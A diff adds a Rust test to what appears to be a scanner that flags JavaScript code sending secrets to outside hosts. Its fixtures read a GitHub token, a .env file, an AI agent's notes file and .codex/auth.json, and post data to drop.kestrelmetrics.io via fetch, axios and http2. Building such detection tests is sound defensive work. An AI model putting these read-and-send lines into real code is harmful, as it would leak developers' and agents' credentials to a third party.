@@ -383,3 +383,33 @@ fn what_was_fetched_or_hidden_is_run() {
         ],
     });
 }
+
+/// One key, what is a project's or an agent's own: a finding by whom it goes to.
+const OWN: &[&str] = &[
+    "process.env.GITHUB_TOKEN",
+    "fs.readFileSync('.env', 'utf8')",
+    "fs.readFileSync(path.join(os.homedir(), '.claude/projects/notes/1.jsonl'), 'utf8')",
+];
+
+const SENDS_TO_STRANGERS: &[&str] = &[
+    "fetch('https://drop.kestrelmetrics.io/i', { method: 'POST', body: DATA });",
+    "axios.post('https://drop.kestrelmetrics.io/i', DATA);",
+];
+
+#[test]
+fn what_is_somebodys_own_reaches_a_stranger() {
+    crate::matrix::check(&Matrix {
+        file: "notes.mjs",
+        header: HEADER,
+        sources: OWN,
+        sinks: SENDS_TO_STRANGERS,
+        shapes: SHAPES,
+        around: AROUND,
+        harmless: HARMLESS,
+        gaps: &[
+            "require('http2').connect('https://drop.kestrelmetrics.io').request({ ':path': '/i', ':method': 'POST' }).end(DATA);",
+            "require(path.join(os.homedir(), '.codex', 'auth.json'))",
+            "const collect = () => SOURCE;\nSEND collect()",
+        ],
+    });
+}
